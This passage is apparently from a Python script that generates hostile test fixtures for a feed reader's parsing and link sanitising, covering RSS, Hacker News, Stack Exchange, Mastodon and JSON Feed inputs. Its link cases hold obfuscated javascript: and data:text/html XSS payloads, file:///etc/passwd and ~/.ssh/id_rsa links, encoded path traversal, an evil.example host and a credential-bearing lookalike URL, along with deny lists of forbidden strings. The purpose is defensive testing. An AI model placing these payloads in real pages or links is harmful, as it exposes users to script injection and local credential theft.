    items = [item(guid="%s-%d" % (name, i), title="d%d" % i,
                  extra="<pubDate>%s</pubDate><dc:date>%s</dc:date>" % (f, f)) for i, f in enumerate(forms)]
    case(name, "dates", what, rss(items), stored_min=len(forms))
case("date_hn_timestamps", "dates", "Hacker News created_at_i: negative, zero, i64 max, a float, a string",
     json.dumps({"hits": [
         {"objectID": "t1", "title": "neg", "created_at_i": -62135596800},
         {"objectID": "t2", "title": "zero", "created_at_i": 0},
         {"objectID": "t3", "title": "max", "created_at_i": 9223372036854775807},
         {"objectID": "t4", "title": "float", "created_at_i": 1.5e300},
         {"objectID": "t5", "title": "str", "created_at_i": "soon", "created_at": "0000-00-00T99:99:99Z"}], "page": 0, "nbPages": 1}),
     kind="hackernews", outcome="any")
case("date_stackexchange_timestamps", "dates", "Stack Exchange creation_date negative and i64 max",
     se([question(qid=301, created=-1), question(qid=302, created=9223372036854775807), question(qid=303, created=0)]),
     kind="stackexchange", outcome="any")
case("date_json_kind_unix_extremes", "dates", "the json kind with time_format unix: -1, 0, 1e18, i64 min",
     jsonkind([{"id": "a", "text": "a", "time": -1}, {"id": "b", "text": "b", "time": 0},
               {"id": "c", "text": "c", "time": 10 ** 18}, {"id": "d", "text": "d", "time": -9223372036854775808}]),
     kind="json", time_format="unix", stored_min=4)
case("date_mastodon_garbage", "dates", "Mastodon created_at: an escape, year +275760, an empty string",
     json.dumps([status(sid="d1", created=CSI), status(sid="d2", created="+275760-09-13T00:00:00Z"), status(sid="d3", created="")]),
     kind="mastodon", outcome="any")

# --- links ----------------------------------------------------------------------------------------

case("link_javascript", "links", "javascript: links in many spellings",
     rss([item(guid="js1", link="javascript:alert(1)"), item(guid="js2", link=" JaVaScRiPt:alert(1)"),
          item(guid="js3", link="java\tscript:alert(1)"), item(guid="js4", link="&#106;avascript:alert(1)"),
          item(guid="js5", link="vbscript:msgbox(1)")]),
     stored_min=5, forbid_stored=["javascript:", "vbscript:", "script:alert"])
case("link_data", "links", "data: links, HTML and base64",
     rss([item(guid="d1", link="data:text/html,<script>alert(1)</script>"),
          item(guid="d2", link="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]),
     stored_min=2, forbid_stored=["data:text"])
case("link_file", "links", "file: links to local files",
     rss([item(guid="f1", link="file:///etc/passwd"), item(guid="f2", link="file://localhost/home/alice/.ssh/id_rsa")]),
     stored_min=2, forbid_stored=["file:", "id_rsa"])
case("link_relative_dotdot", "links", "relative links climbing out with .. and encoded %2e%2e",
     rss([item(guid="r1", link="../../../../etc/passwd"), item(guid="r2", link="/..%2f..%2fetc/passwd"),
          item(guid="r3", link="//evil.example/x")]),
     stored_min=3, forbid_stored=["file:"])
case("link_credentials", "links", "links with user:password@ and a lookalike host before the @",
     rss([item(guid="c1", link="http://user:hunter2secret@example.com/post"),
          item(guid="c2", link="https://paypal.com:login@evil.example/")]),
     stored_min=2, forbid_stored=["hunter2secret"])
case("link_stackexchange_javascript", "links", "Stack Exchange: a javascript: link",
     se([question(qid=201, link="javascript:alert(1)")]), kind="stackexchange", stored_min=1, forbid_stored=["javascript:"])
case("link_mastodon_javascript", "links", "Mastodon: javascript: url and data: uri",
     json.dumps([status(sid="l1", url="javascript:alert(1)"), status(sid="l2", url=None) | {"uri": "data:text/html,x"}]),
     kind="mastodon", stored_min=2, forbid_stored=["javascript:", "data:text"])
case("link_json_kind_file", "links", "the json kind: a file: url",
     jsonkind([{"id": "f", "url": "file:///etc/passwd", "text": "t"}]), kind="json", stored_min=1, forbid_stored=["file:"])
case("link_jsonfeed_javascript", "links", "JSON Feed: javascript: url and external_url",
     json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [
         {"id": "1", "url": "javascript:alert(1)", "content_text": "x"},
         {"id": "2", "external_url": "javascript:alert(2)", "content_text": "y"}]}),
     headers={"content-type": "application/feed+json"}, stored_min=2, forbid_stored=["javascript:"])


def main():
    names = set()
    for name, cls, what, body, keys in CASES:
        assert name not in names, name
        names.add(name)
        data = body if isinstance(body, bytes) else body.encode("utf-8")
        with open(os.path.join(HERE, name + ".body"), "wb") as f:
            f.write(data)
        lines = ["# Written by make.py: edit the case there, then run python3 tests/hostile/make.py.",
                 "what = " + toml_str(what), "class = " + toml_str(cls)]
        order = ["kind", "path", "status", "headers", "behaviour", "chunked", "time_format", "outcome",
                 "stored_min", "stored_max", "error_contains", "forbid_stored", "no_request", "known_failure"]
        keys = dict(keys)
        keys.setdefault("outcome", "ok")
        for k in order:
            if k in keys:
                lines.append(k + " = " + toml_value(keys.pop(k)))
        assert not keys, (name, keys)
        with open(os.path.join(HERE, name + ".toml"), "w", encoding="utf-8") as f:
            f.write("\n".join(lines) + "\n")
    print("%d cases written" % len(CASES))


def toml_str(s):
    out = ['"']
    for c in s:
        o = ord(c)
        if c == '"':
            out.append('\\"')
        elif c == "\\":
            out.append("\\\\")
        elif o < 0x20 or o == 0x7F or 0x80 <= o <= 0x9F or 0x200B <= o <= 0x200F or 0x202A <= o <= 0x202E or 0x2066 <= o <= 0x2069:
            out.append("\\u%04x" % o)
        else:
            out.append(c)
    out.append('"')
    return "".join(out)


def toml_value(v):
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str):
        return toml_str(v)
    if isinstance(v, list):
        return "[" + ", ".join(toml_value(x) for x in v) + "]"
    if isinstance(v, dict):
        return "{ " + ", ".join(toml_str(k) + " = " + toml_value(x) for k, x in v.items()) + " }"
    raise TypeError(v)


if __name__ == "__main__":
    main()
